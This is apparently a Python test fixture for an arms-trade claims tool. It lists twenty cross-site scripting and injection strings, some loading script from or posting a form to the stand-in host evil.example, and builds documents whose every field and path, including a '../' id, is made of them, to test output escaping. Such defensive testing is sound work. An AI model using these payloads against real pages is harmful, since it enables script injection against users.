"""Strings that attack a page, and documents that hold them in every field.

Each string, were it executed, would call `window.pwned`, or open a dialog, or load something.
"""

from __future__ import annotations

from followthearms.model import Bound, Claim, DateRange, Document, Equipment, Kind, Money, Party, Quantity, Span
from followthearms.model.claims import Method
from followthearms.model.spans import Extent

STRINGS = [
    "<script>pwned(1)</script>",
    "</script><script>pwned(2)</script>",
    "<img src=x onerror=pwned(3)>",
    "<svg/onload=pwned(4)>",
    '"><script src=//evil.example/5.js></script>',
    "' onmouseover='pwned(6)' x='",
    '" autofocus onfocus=pwned(7) x="',
    "javascript:pwned(8)",
    "data:text/html,<script>pwned(9)</script>",
    "<iframe srcdoc='<script>parent.pwned(10)</script>'></iframe>",
    "{{ 7*7 }}{% raw %}{{ pwned(11) }}",
    "]]><script>pwned(12)</script><!--",
    "--><svg onload=pwned(13)><!--",
    "</title><script>pwned(14)</script>",
    "</textarea></style><script>pwned(15)</script>",
    "<a href=javascript:pwned(16)>click</a>",
    "<base href=//evil.example/><form action=//evil.example/17><button>ok</button></form>",
    "<meta http-equiv=refresh content=0;url=javascript:pwned(18)>",
    "\u202e<b onclick=pwned(19)>\u2066 \u0007 gnitirw \ud800",
    '</bdi></a></main><math><mi//xlink:href="data:x,<script>pwned(20)</script>">',
]

ADDRESSES = ["javascript:pwned('url')", "data:text/html,<script>pwned('url')</script>", "http://[", "//evil.example/"]


def hostile_documents() -> list[Document]:
    """A document for each string, its fields and the slots of its claims all made of it; ids and paths too."""
    return [_document(n, string) for n, string in enumerate(STRINGS)]


def _document(number: int, string: str) -> Document:
    storable = string.replace("\ud800", "")
    text = "\n".join([storable] * 12)
    length = len(storable) + 1

    def at(place: int) -> dict[str, object]:
        return {"start": place * length, "end": place * length + length - 1, "text": storable}

    claims = [
        Claim(
            id=f"{storable}/{kind.value}",
            kind=(kind,),
            evidence=Extent(start=0, end=len(text)),
            trigger=Span(**at(0)),
            supplier=(Party(**at(1), code=storable.upper()),),
            recipient=(Party(**at(2), code="IN"),),
            speaker=(Party(**at(3)),),
            company=(Span(**at(4)),),
            persons=(Span(**at(5)),),
            medium=Span(**at(6)),
            equipment=(
                Equipment(
                    **at(7),
                    designation=storable,
                    category=storable,
                    quantity=Quantity(**at(8), number=number + 2 + place, bound=Bound.ABOUT, unit=storable),
                ),
            ),
            value=Money(**at(9), amount=5, currency=storable, per=storable),
            date=DateRange(**at(10)),
            place=Span(**at(11)),
            method=Method(by=storable, rule=storable),
        )
        for place, kind in enumerate((Kind.AGREEMENT, Kind.DELIVERY))
    ]
    return Document(
        id=f"../{storable}/{number}.json",
        title=storable,
        date="2020-01-02",
        date_basis=storable,
        outlet=storable,
        url=ADDRESSES[number % len(ADDRESSES)],
        language=storable,
        licence=storable,
        text=text,
        claims=tuple(claims),
    )
